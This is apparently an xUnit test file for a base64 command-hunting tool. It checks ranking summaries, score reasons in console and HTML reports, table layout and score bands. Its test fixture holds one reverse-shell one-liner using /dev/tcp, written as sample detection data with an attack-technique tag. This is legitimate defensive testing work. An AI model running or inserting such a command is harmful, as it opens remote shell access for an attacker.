using System;
using System.Collections.Generic;
using System.Linq;
using B64Hunt.Classification;
using B64Hunt.Model;
using B64Hunt.Reports;
using B64Hunt.Scoring;
using Xunit;

namespace B64Hunt.Tests.Reports
{
    /// <summary>Headers that say what share of the ranking is drawn, ScoreReasons in both reports, and bands by model.</summary>
    public class RankingReportTests
    {
        private static readonly DateTime T0 = new DateTime(2024, 5, 1, 10, 0, 0, DateTimeKind.Utc);

        private static IReadOnlyList<CommandScore> Ranked()
        {
            var events = new List<CommandEvent>();
            var shell = new BehaviourHit { RuleId = "revshell-dev-tcp", Category = "Reverse shell", Risk = 5, Techniques = new List<string> { "T1059.004" } };
            events.Add(new CommandEvent { DecodedCommand = "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", Computer = "web1", TimeGenerated = T0, Behaviours = new List<BehaviourHit> { shell } });
            for (int i = 0; i < 6; i++) events.Add(new CommandEvent { DecodedCommand = "uptime", Computer = "web" + i, TimeGenerated = T0.AddHours(i) });
            events.Add(new CommandEvent { DecodedCommand = "df -h", Computer = "web2", TimeGenerated = T0.AddHours(2) });
            return CommandScorer.Score(events, null, null, null, ScoringModel.Default, RiskTable.Empty).Scores;
        }

        [Fact]
        public void HeadersSayTopNOfTheWholeRanking()
        {
            var layout = TimelineLayout.Build(Ranked(), null, 2);
            Assert.Equal("top 2 of 3 commands (2 of 8 executions)", layout.Summary());
            var console = ConsoleTimelineRenderer.Render(layout, new ConsoleTimelineOptions { Width = 40 }).ToList();
            Assert.StartsWith("B64Hunt timeline: top 2 of 3 commands (2 of 8 executions) on ", console[0]);
            string html = HtmlReportRenderer.Render(layout);
            Assert.Contains("top 2 of 3 commands (2 of 8 executions)", html);
            Assert.Contains("Show-B64Timeline -Top 2", html);
            Assert.Contains("scoring model Default", html);
            // Counterpart: everything drawn says so, without "top".
            Assert.Equal("3 command(s) (8 execution(s))", TimelineLayout.Build(Ranked(), null, 0).Summary());
        }

        [Fact]
        public void ReasonsAppearInTheConsoleListAndTheHtmlTable()
        {
            var layout = TimelineLayout.Build(Ranked(), null, 0);
            var console = ConsoleTimelineRenderer.Render(layout, new ConsoleTimelineOptions { Width = 40 }).ToList();
            Assert.Contains(console, l => l.StartsWith("       why: ", StringComparison.Ordinal) && l.Contains("+5 Reverse shell (T1059.004)"));
            string html = HtmlReportRenderer.Render(layout);
            Assert.Contains("<b>Why (ScoreReasons)</b>", html);
            Assert.Contains("<li>+5 Reverse shell (T1059.004)</li>", html);
        }

        [Fact]
        public void EnrichmentSitsInAFullWidthRowUnderItsCommand()
        {
            // As columns, the enrichment made the table wider than a 1024-px screen; under the row it wraps instead.
            var layout = TimelineLayout.Build(Ranked(), null, 0);
            var doc = System.Xml.Linq.XDocument.Parse(HtmlReportRenderer.Render(layout).Substring("<!DOCTYPE html>\n".Length));
            var table = doc.Descendants("table").Single(t => (string?)t.Attribute("id") == "ranking-table");
            var headers = table.Descendants("th").Select(th => th.Value).ToList();
            Assert.Equal(new[] { "Rank", "Total", "Freq", "Sev", "Alert", "Count", "Hosts", "First seenLast seen", "Decoded command" }, headers);
            var rows = table.Element("tbody")!.Elements("tr").ToList();
            var details = rows.Where(r => (string?)r.Attribute("class") == "detail-row").ToList();
            Assert.Equal(layout.Commands.Count(c => c.ScoreReasons.Count + c.Categories.Count + c.Techniques.Count + c.GtfoBins.Count + c.Iocs.Count > 0), details.Count);
            Assert.NotEmpty(details);
            foreach (var detail in details)
            {
                // Right after its command's row, one cell across every column.
                int i = rows.IndexOf(detail);
                Assert.Equal("score-row", (string?)rows[i - 1].Attribute("class"));
                Assert.Equal(headers.Count.ToString(System.Globalization.CultureInfo.InvariantCulture), (string?)detail.Element("td")!.Attribute("colspan"));
            }
            var first = rows[rows.IndexOf(rows.First(r => (string?)r.Attribute("id") == "cmd-1")) + 1];
            Assert.Equal("detail-row", (string?)first.Attribute("class"));
            Assert.Contains(first.Descendants("b"), b => b.Value == "Why (ScoreReasons)");
            Assert.Contains(first.Descendants("li"), li => li.Value == "+5 Reverse shell (T1059.004)");
        }

        [Fact]
        public void BandsFollowTheModel()
        {
            var routine = new CommandScore { TotalScore = 2.5, Model = "Default" };
            var same = new CommandScore { TotalScore = 2.5, Model = "Notebook" };
            Assert.Equal(ScoreBand.Low, ScoreBands.Of(routine));
            Assert.Equal(ScoreBand.Medium, ScoreBands.Of(same));
            Assert.Equal(ScoreBand.Critical, ScoreBands.Of(new CommandScore { TotalScore = 12, Model = "Default" }));
            Assert.Equal("score 10 or more", ScoreBands.Describe(ScoreBand.Critical, "Default"));
            Assert.Equal("score 6 or more", ScoreBands.Describe(ScoreBand.Critical, "Notebook"));
        }
    }
}
